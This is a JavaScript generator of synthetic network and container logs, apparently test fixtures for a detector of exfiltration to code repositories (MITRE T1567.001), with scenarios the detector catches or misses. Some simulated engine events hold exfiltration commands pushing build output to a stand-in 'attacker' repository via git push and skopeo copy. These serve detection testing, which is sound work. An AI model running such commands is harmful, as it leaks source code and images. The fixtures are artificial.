// Written inputs of T1567.001; scripts/make-scenarios.mjs gives the tools.
const CODE = 'T1567.001-exfiltration-to-code-repository';

export function codeRepository(tools) {
  const {
    DAY_0,
    MINUTE,
    HOUR,
    DAY,
    KB,
    MB,
    drawing,
    conn,
    http,
    range,
    write,
    writeLines,
    containerUid,
    inspectOf,
    engineEvent,
    engineLines,
  } = tools;
  const lines = (scenario, name, rows) => writeLines(CODE, scenario, name, rows);

  /** Requests over one connection each, and the connections. */
  function web(draw, scenario, from, to, port, host, requests) {
    const rows = requests.map(({ at, method, uri, sent = 0, received = 200, agent }) => {
      const connection = conn(draw, {
        at,
        from,
        to,
        port,
        service: 'http',
        sent: sent + 300,
        received: received + 200,
      });
      return [connection, http(connection, { method, host, uri, sent, received, agent })];
    });
    lines(
      scenario,
      'conn.log',
      rows.map(([connection]) => connection),
    );
    lines(
      scenario,
      'http.log',
      rows.map(([, request]) => request),
    );
  }

  /** Connections over TLS, and the names they asked for. */
  function tls(draw, scenario, rows, folder = '') {
    const made = rows.map(({ name, ...row }) => [conn(draw, row), name]);
    lines(
      scenario,
      `${folder}conn.log`,
      made.map(([connection]) => connection),
    );
    lines(
      scenario,
      `${folder}ssl.log`,
      made
        .filter(([, name]) => name)
        .map(([connection, name]) => ({
          ts: Number((connection.ts + 0.02).toFixed(6)),
          uid: connection.uid,
          'id.orig_h': connection['id.orig_h'],
          'id.orig_p': connection['id.orig_p'],
          'id.resp_h': connection['id.resp_h'],
          'id.resp_p': connection['id.resp_p'],
          version: 'TLSv13',
          cipher: 'TLS_AES_128_GCM_SHA256',
          server_name: name,
          resumed: false,
          established: true,
        })),
    );
  }

  /** What a push by smart HTTP asks and posts. */
  function smartPush(scenario, from, sent) {
    const [at, agent] = [DAY_0 + HOUR, 'git/2.45.2'];
    const ask = {
      at,
      method: 'GET',
      uri: '/x/app.git/info/refs?service=git-receive-pack',
      received: 220,
      agent,
    };
    const post = {
      at: at + 1,
      method: 'POST',
      uri: '/x/app.git/git-receive-pack',
      sent,
      received: 60,
      agent,
    };
    web(drawing(scenario), scenario, from, '203.0.113.30', 80, 'git.example', [ask, post]);
  }

  function gitPush() {
    smartPush('fires-on-git-push-over-http', '10.20.0.71', 6 * MB);
    smartPush('quiet-push-under-the-floor', '10.20.0.72', 240 * KB);
    smartPush('misses-small-secret-in-a-commit', '10.20.0.73', 3 * KB);
  }

  function plainClient() {
    const agent = 'curl/8.5.0';
    web(
      drawing('plain-client'),
      'fires-on-image-upload-by-a-plain-client',
      '10.20.0.74',
      '203.0.113.31',
      5000,
      'registry.example',
      [
        { at: DAY_0 + HOUR, method: 'POST', uri: '/v2/tmp/x/blobs/uploads/', received: 0, agent },
        {
          at: DAY_0 + HOUR + 1,
          method: 'PATCH',
          uri: '/v2/tmp/x/blobs/uploads/5ab1',
          sent: 8 * MB,
          received: 0,
          agent,
        },
        {
          at: DAY_0 + HOUR + 5,
          method: 'PUT',
          uri: '/v2/tmp/x/blobs/uploads/5ab1?digest=sha256:00',
          received: 0,
          agent,
        },
      ],
    );
  }

  function listedHost() {
    tls(drawing('listed-host'), 'fires-on-upload-to-a-listed-code-host', [
      ...range(30).map((index) => ({
        at: DAY_0 + index * HOUR,
        from: '10.20.0.75',
        to: '203.0.113.90',
        name: 'api.shop.example',
        sent: 20 * KB,
        received: 40 * KB,
      })),
      {
        at: DAY_0 + 30 * HOUR,
        from: '10.20.0.75',
        to: '203.0.113.32',
        name: 'github.com',
        sent: 20 * MB,
        received: 12 * KB,
        seconds: 9,
      },
    ]);
    const draw = drawing('clones');
    tls(
      draw,
      'quiet-clone-and-pull',
      range(6).flatMap((index) => [
        {
          at: DAY_0 + index * 10 * MINUTE,
          from: '10.20.0.76',
          to: '203.0.113.32',
          name: 'github.com',
          sent: draw.around(60 * KB, 0.3),
          received: 180 * MB,
          seconds: 20,
        },
        {
          at: DAY_0 + index * 10 * MINUTE + 60,
          from: '10.20.0.76',
          to: '203.0.113.33',
          name: 'registry-1.docker.io',
          sent: draw.around(300 * KB, 0.1),
          received: 700 * MB,
          seconds: 30,
        },
      ]),
    );
    tls(drawing('mirror'), 'quiet-push-to-a-sanctioned-host', [
      {
        at: DAY_0 + HOUR,
        from: '10.20.0.77',
        to: '203.0.113.34',
        name: 'gitlab.com',
        sent: 60 * MB,
        received: 90 * KB,
        seconds: 12,
      },
    ]);
    write(
      CODE,
      'quiet-push-to-a-sanctioned-host',
      'stowaway.yaml',
      `container_cidrs: [10.20.0.0/16]
sanctioned:
  - destination: 203.0.113.34
    workload: 10.20.0.77
    reason: mirror of the public source code
    owner: open-source@example.com
    expires: 2199-12-31
`,
    );
  }

  function unknownHost() {
    tls(drawing('unknown-host'), 'misses-encrypted-push-to-an-unknown-host', [
      {
        at: DAY_0 + HOUR,
        from: '10.20.0.78',
        to: '203.0.113.35',
        name: 'cdn.assets.example',
        sent: 600 * KB,
        received: 8 * KB,
        seconds: 2,
      },
    ]);
    web(
      drawing('inside-registry'),
      'misses-push-to-a-registry-inside',
      '10.20.0.79',
      '10.20.0.5',
      5000,
      'registry.internal',
      [
        { at: DAY_0 + HOUR, method: 'HEAD', uri: '/v2/shop/x/blobs/sha256:00', agent: 'docker/27.3.1' },
        {
          at: DAY_0 + HOUR + 1,
          method: 'PATCH',
          uri: '/v2/shop/x/blobs/uploads/7c',
          sent: 90 * MB,
          received: 0,
          agent: 'docker/27.3.1',
        },
        {
          at: DAY_0 + HOUR + 9,
          method: 'PUT',
          uri: '/v2/shop/x/manifests/1',
          sent: 900,
          received: 0,
          agent: 'docker/27.3.1',
        },
      ],
    );
    const draw = drawing('maintenance');
    lines(
      'quiet-maintenance-between-containers',
      'conn.log',
      range(20).map((index) =>
        conn(draw, {
          at: DAY_0 + index * MINUTE,
          from: '10.20.0.80',
          to: '10.20.0.81',
          port: 22,
          service: 'ssh',
          sent: draw.around(50 * MB, 0.2),
          received: 20 * KB,
        }),
      ),
    );
  }

  function withoutCounters() {
    const stamp = (at) => (DAY_0 + at).toFixed(6);
    const tuple =
      'src=10.20.0.82 dst=203.0.113.30 sport=40001 dport=9418 src=203.0.113.30 dst=10.20.0.82 sport=9418 dport=40001 [ASSURED] id=7001';
    write(
      CODE,
      'misses-push-without-byte-counters',
      'conntrack-events.txt',
      `[${stamp(10)}]\t    [NEW] ipv4     2 tcp      6 120 SYN_SENT ${tuple}\n[${stamp(30)}]\t[DESTROY] ipv4     2 tcp      6 ${tuple}\n`,
    );
  }

  /** A build job that pushes to its registry each night for two weeks, and what the engine tells of its last push. */
  function buildJob() {
    const from = '10.20.0.83';
    const config = 'container_cidrs: [10.20.0.0/16]\nbuild_workloads: [ci*]\n';
    const night = (draw, day) => [
      {
        at: DAY_0 + day * DAY + 2 * HOUR,
        from,
        to: '203.0.113.32',
        name: 'github.com',
        sent: 30 * KB,
        received: 60 * MB,
        seconds: 8,
      },
      {
        at: DAY_0 + day * DAY + 2 * HOUR + 300,
        from,
        to: '203.0.113.36',
        name: 'ghcr.io',
        sent: draw.around(80 * MB, 0.2),
        received: 90 * KB,
        seconds: 12,
      },
    ];
    const jobOf = (draw, name, ip, startedAt) => ({
      uid: containerUid(draw),
      name,
      image: 'shop/builder:4',
      labels: {},
      ip,
      startedAt,
      command: ['sleep', 'infinity'],
    });
    const told = (job, at, command) => [
      engineEvent(job, `exec_create: ${command}`, at),
      engineEvent(job, `exec_start: ${command}`, at),
    ];
    const copyTo = (place) => `skopeo copy docker-archive:/build/app.tar docker://${place}`;
    const about = (scenario, ...jobs) => {
      write(CODE, scenario, 'inspect.json', `${JSON.stringify(jobs.map(inspectOf), null, 1)}\n`);
      write(CODE, scenario, 'stowaway.yaml', config);
    };
    const sending = (at, to, name, source = from) => ({
      ...{ at: at + 4, from: source, to, name, sent: 80 * MB, received: 90 * KB, seconds: 12 },
    });
    const push = (scenario, draw, at, to, name, command = copyTo(`${name}/shop/app:15`)) => {
      tls(draw, scenario, [sending(at, to, name)]);
      const job = jobOf(draw, 'ci-build', from, DAY_0 - DAY);
      about(scenario, job);
      write(CODE, scenario, 'engine-events.ndjson', engineLines(told(job, at, command)));
      return job;
    };
    const last = DAY_0 + 14 * DAY + 2 * HOUR;
    const nights = (draw, count) => range(count).flatMap((day) => night(draw, day));
    const ghcr = ['203.0.113.36', 'ghcr.io'];
    const github = ['203.0.113.32', 'github.com'];
    for (const [scenario, to, name, command, commandBefore] of [
      ['quiet-build-job-where-it-always-pushes', ...ghcr],
      ['fires-on-build-job-that-pushes-somewhere-new', '203.0.113.37', 'ttl.sh'],
      [
        'fires-on-build-job-that-pushes-where-it-only-cloned',
        ...github,
        'git push https://x:y@github.com/attacker/drop.git HEAD:main',
      ],
      [
        'fires-on-build-job-that-pushes-to-another-repository',
        ...ghcr,
        copyTo('ghcr.io/attacker/x:1'),
        copyTo('ghcr.io/shop/app:14'),
      ],
      ['misses-other-repository-where-commands-are-new', ...ghcr, copyTo('ghcr.io/attacker/x:1')],
    ]) {
      const draw = drawing('build-job');
      tls(draw, scenario, nights(draw, 14), 'baseline/');
      const job = push(scenario, draw, last, to, name, command);
      if (commandBefore)
        write(
          CODE,
          scenario,
          'baseline/engine-events.ndjson',
          engineLines(told(job, DAY_0 + 13 * DAY + 2 * HOUR + 296, commandBefore)),
        );
    }
    push('misses-build-job-on-its-first-day', drawing('first-day'), DAY_0 + HOUR, '203.0.113.37', 'ttl.sh');

    const report = 'quiet-report-after-a-clone';
    push(
      report,
      drawing(report),
      last,
      '203.0.113.38',
      'files.customer.example',
      'git clone https://github.com/shop/app.git',
    );

    // All in one log, without a baseline.
    const newPlace = 'fires-on-new-place-of-a-build-job-seen-from-its-first-push';
    const draw = drawing(newPlace);
    tls(draw, newPlace, [...nights(draw, 6), sending(DAY_0 + 4 * DAY + 7 * HOUR, '203.0.113.37', 'ttl.sh')]);
    about(newPlace, jobOf(draw, 'ci-build', from, DAY_0 - DAY));
    for (const [scenario, to, name] of [
      ['fires-on-new-container-under-the-name-of-a-build-job', '203.0.113.37', 'ttl.sh'],
      ['quiet-new-runner-where-the-others-push', ...ghcr],
    ]) {
      const draw = drawing(scenario);
      const at = DAY_0 + 6 * DAY + 2 * HOUR;
      tls(draw, scenario, [...nights(draw, 6), sending(at, to, name, '10.20.0.84')]);
      const runner = jobOf(draw, 'ci-x', '10.20.0.84', at - 600);
      about(scenario, jobOf(draw, 'ci-build', from, DAY_0 - DAY), runner);
    }
  }

  for (const make of [gitPush, plainClient, listedHost, unknownHost, withoutCounters, buildJob]) make();
}
